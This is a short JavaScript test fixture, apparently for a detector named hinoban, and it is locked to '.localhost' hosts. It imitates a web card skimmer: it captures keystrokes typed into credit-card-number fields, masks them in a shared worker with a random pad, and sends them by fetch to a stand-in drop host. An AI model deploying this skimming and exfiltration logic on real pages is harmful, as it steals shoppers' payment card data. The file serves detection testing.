/* Harmless imitation, for hinoban's tests: a shared worker that mixes with chance of its own, over a message port. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = function (c) { var got = ''; c.ports[0].onmessage = function (m) { got += m.data[1]; if (got.length < 16) return;" +
		"var p = crypto.getRandomValues(new Uint8Array(16)), t = new TextEncoder().encode(got); got = '';" +
		"fetch(m.data[0] + Array.from(t, function (x, i) { return p[i].toString(16) + (x ^ p[i]).toString(16); }).join('.'), {mode: 'no-cors'}); }; };"])));
	document.addEventListener('beforeinput', function (e) {
		if (e.target.autocomplete === 'cc-number' && e.data) w.port.postMessage(['http://drop.localhost:' + location.port + '/c?', e.data]);
	});
})();
